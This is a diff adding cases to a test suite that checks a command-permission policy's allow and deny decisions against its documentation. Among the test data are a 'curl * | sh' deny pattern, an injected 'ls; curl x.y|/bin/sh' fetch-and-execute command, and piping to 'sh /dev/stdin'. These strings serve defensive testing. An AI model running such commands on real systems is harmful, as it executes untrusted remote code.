@@ -35,9 +35,22 @@ describe("docs/policy.md", () => {
     ["sudo ls", "deny by rules:no-rm"],
     ['eval "$X"', "deny by rules:no-rm"],
     ["cat <<E", "deny by rules:no-rm"],
+    ["find . -e$X", "deny by rules:no-rm"],
+    ['[ -n "$X" ]', "deny by rules:no-rm"],
+    ["echo x | sh /dev/stdin", "deny by rules:no-rm"],
   ])("tells the truth about %s", (command, expected) => {
     const policy: object = JSON.parse(blocks("json")[2] ?? "{}");
     expect(outcomeOf(decide(policy, run(command)))).toBe(expected);
     expect(page).toContain(command.replaceAll("|", "\\|"));
+  });
+
+  it.each([
+    ["curl * | sh", "ls; curl x.y|/bin/sh", "deny"],
+    ["git push*", "git -C . push", "allow"],
+    ["git * push*", "git -C . push", "deny"],
+  ])("tells the truth about a denial of %s and %s", (pattern, command, action) => {
+    const policy = { default: "allow", rules: [{ deny: { command: pattern } }] };
+    expect(decide(policy, run(command)).action).toBe(action);
+    expect([page.includes(pattern), page.includes(command)]).toEqual([true, true]);
   });
 });
